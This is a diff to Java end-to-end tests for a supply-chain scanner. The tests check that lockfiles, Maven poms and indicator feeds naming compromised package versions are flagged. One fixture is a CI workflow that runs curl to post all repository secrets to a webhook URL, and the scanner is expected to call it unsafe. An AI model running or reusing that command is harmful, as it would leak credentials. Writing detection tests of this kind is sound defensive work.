@@ -48,12 +48,12 @@ class IndicatorsEndToEndTest {
     @Test
     void aLockedVersionOfACampaignIsCriticalWhereverItIsNested() throws IOException {
         write("repo/package-lock.json", """
-                {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
-                  "": {"name": "x", "version": "1.0.0", "dependencies": {"a": "^1.0.0"}},
-                  "node_modules/a": {"version": "1.0.0", "dependencies": {"debug": "^4.0.0"}},
-                  "node_modules/a/node_modules/debug": {"version": "4.4.2"},
-                  "node_modules/chalk": {"version": "5.6.0"}}}
-                """);
+            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
+              "": {"name": "x", "version": "1.0.0", "dependencies": {"a": "^1.0.0"}},
+              "node_modules/a": {"version": "1.0.0", "dependencies": {"debug": "^4.0.0"}},
+              "node_modules/a/node_modules/debug": {"version": "4.4.2"},
+              "node_modules/chalk": {"version": "5.6.0"}}}
+            """);
         write("repo/requirements.txt", "debug==4.4.2\nchalk==5.6.1\n");
         Report report = json("scan", "--format", "json", "repo");
         assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
@@ -65,16 +65,53 @@ class IndicatorsEndToEndTest {
         assertThat(table.get("digest").stringValue()).startsWith("sha256:");
     }
 
+    /** Whoever asks for names alone is told as well, and nobody is told twice. */
+    @Test
+    void aVersionThatIsKnownToBeMaliciousIsOneFindingInEachFamily() throws IOException {
+        write("package-lock.json", """
+            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {
+              "node_modules/debug": {"version": "4.4.2"},
+              "node_modules/chalk": {"version": "5.6.0"}}}
+            """);
+        assertThat(rules(json("scan", "--format", "json", "--only", "package", "package-lock.json")))
+                .containsExactly("package/known-malicious");
+        assertThat(rules(json("scan", "--format", "json", "--only", "package,indicator", "package-lock.json")))
+                .containsExactly("indicator/malicious-package");
+        assertThat(rules(json("scan", "--format", "json", "package-lock.json")))
+                .containsExactly("indicator/malicious-package");
+    }
+
+    @Test
+    void aChoiceOfVersionsWithAMaliciousOneIsToldByCheckAsByAScan() throws IOException {
+        write("package.json", "{\"dependencies\": {\"debug\": \"^4.4.0\", \"chalk\": \"4.1.2\"}}");
+        for (String command : List.of("scan", "check")) {
+            List<String> arguments = command.equals("scan")
+                    ? List.of("scan", "--format", "json", "package.json")
+                    : List.of("check", "--offline", "--format", "json", "package.json");
+            Report report = json(arguments.toArray(String[]::new));
+            assertThat(rules(report)).as(command).containsExactly("indicator/malicious-if-taken");
+            assertThat(report.code()).isEqualTo(ExitCode.CLEAN);
+        }
+    }
+
+    private static List<String> rules(Report report) {
+        return report.json()
+                .get("findings")
+                .valueStream()
+                .map(each -> each.get("ruleId").stringValue())
+                .toList();
+    }
+
     @Test
     void aVersionThatAParentPomDecidesIsComparedAsTheOneThatIsTaken() throws IOException {
         write("feed.csv", "ecosystem,name,version\nmaven,g:bad,1.2\nmaven,g:good,1.0\n");
         String parent = "<parent><groupId>o</groupId><artifactId>root</artifactId><version>1</version></parent>";
         String asked = """
-                <dependencies>
-                <dependency><groupId>g</groupId><artifactId>bad</artifactId></dependency>
-                <dependency><groupId>g</groupId><artifactId>good</artifactId><version>${good}</version></dependency>
-                </dependencies>
-                """;
+            <dependencies>
+            <dependency><groupId>g</groupId><artifactId>bad</artifactId></dependency>
+            <dependency><groupId>g</groupId><artifactId>good</artifactId><version>${good}</version></dependency>
+            </dependencies>
+            """;
         Files.createDirectory(folder.resolve("repo/module"));
         write("repo/module/pom.xml", "<project>" + parent + "<artifactId>m</artifactId>\n" + asked + "</project>");
         Report alone = json("scan", "--format", "json", "--indicators", "feed.csv", "repo");
@@ -83,13 +120,13 @@ class IndicatorsEndToEndTest {
                         "indicator/malicious-if-taken pkg:maven/g/bad module/pom.xml:3",
                         "indicator/malicious-if-taken pkg:maven/g/good module/pom.xml:4");
         write("repo/pom.xml", """
-                <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
-                <properties><good>2.0</good></properties>
-                <dependencyManagement><dependencies>
-                <dependency><groupId>h</groupId><artifactId>other</artifactId><version>3</version></dependency>
-                <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>1.2</version></dependency>
-                </dependencies></dependencyManagement></project>
-                """);
+            <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
+            <properties><good>2.0</good></properties>
+            <dependencyManagement><dependencies>
+            <dependency><groupId>h</groupId><artifactId>other</artifactId><version>3</version></dependency>
+            <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>1.2</version></dependency>
+            </dependencies></dependencyManagement></project>
+            """);
         Report whole = json("scan", "--format", "json", "--indicators", "feed.csv", "--facts", "repo");
         assertThat(whole.code()).isEqualTo(ExitCode.UNSAFE);
         assertThat(findings(whole))
@@ -116,15 +153,15 @@ class IndicatorsEndToEndTest {
         write("feed.csv", "ecosystem,name,version\nmaven,g:bad,5\n");
         Files.createDirectory(folder.resolve("repo/module"));
         write("repo/pom.xml", """
-                <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
-                <properties><v>5</v></properties></project>
-                """);
+            <project><groupId>o</groupId><artifactId>root</artifactId><version>1</version><packaging>pom</packaging>
+            <properties><v>5</v></properties></project>
+            """);
         write("repo/module/pom.xml", """
-                <project><parent><groupId>o</groupId><artifactId>root</artifactId><version>1</version></parent>
-                <artifactId>m</artifactId><dependencies>
-                <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>${v}</version></dependency>%s
-                </dependencies></project>
-                """.formatted("<!-- assay:ignore indicator/malicious-package reason=tried -->"));
+            <project><parent><groupId>o</groupId><artifactId>root</artifactId><version>1</version></parent>
+            <artifactId>m</artifactId><dependencies>
+            <dependency><groupId>g</groupId><artifactId>bad</artifactId><version>${v}</version></dependency>%s
+            </dependencies></project>
+            """.formatted("<!-- assay:ignore indicator/malicious-package reason=tried -->"));
         String[] scan = {"scan", "--format", "json", "--indicators", "feed.csv", "repo"};
         assertThat(findings(json(scan)))
                 .containsExactly("indicator/malicious-package pkg:maven/g/bad@5 module/pom.xml:3");
@@ -156,13 +193,13 @@ class IndicatorsEndToEndTest {
     void aWorkflowThatGivesSecretsAwayIsUnsafe() throws IOException {
         Files.createDirectories(folder.resolve("repo/.github/workflows"));
         write("repo/.github/workflows/ci.yml", """
-                on: push
-                jobs:
-                  a:
-                    runs-on: SHA1HULUD
-                    steps:
-                      - run: curl -d '${{ toJSON(secrets) }}' https://webhook.site/1
-                """);
+            on: push
+            jobs:
+              a:
+                runs-on: SHA1HULUD
+                steps:
+                  - run: curl -d '${{ toJSON(secrets) }}' https://webhook.site/1
+            """);
         Report report = json("scan", "--format", "json", "repo");
         assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
         assertThat(report.json()
@@ -188,8 +225,8 @@ class IndicatorsEndToEndTest {
         write("feed.txt", "npm chalk 4.1.2 # ours\n");
         write("assay.yaml", "indicators: feed.txt\n");
         write("repo/package-lock.json", """
-                {"name": "x", "lockfileVersion": 3, "packages": {"node_modules/chalk": {"version": "4.1.2"}}}
-                """);
+            {"name": "x", "lockfileVersion": 3, "packages": {"node_modules/chalk": {"version": "4.1.2"}}}
+            """);
         Report report = json("scan", "--format", "json", "repo");
         assertThat(findings(report))
                 .containsExactly("indicator/malicious-package pkg:npm/chalk@4.1.2 package-lock.json:1");
@@ -226,10 +263,10 @@ class IndicatorsEndToEndTest {
     @Test
     void checkOfALockfileNamesTheBadVersionBehindAGoodOne() throws IOException {
         write("package-lock.json", """
-                {"name": "x", "lockfileVersion": 3, "packages": {
-                  "node_modules/debug": {"version": "4.4.1"},
-                  "node_modules/b/node_modules/debug": {"version": "4.4.2"}}}
-                """);
+            {"name": "x", "lockfileVersion": 3, "packages": {
+              "node_modules/debug": {"version": "4.4.1"},
+              "node_modules/b/node_modules/debug": {"version": "4.4.2"}}}
+            """);
         Report report = json("check", "--format", "json", "package-lock.json");
         assertThat(report.json().at("/findings/0/ruleId").stringValue()).isEqualTo("package/known-malicious");
     }
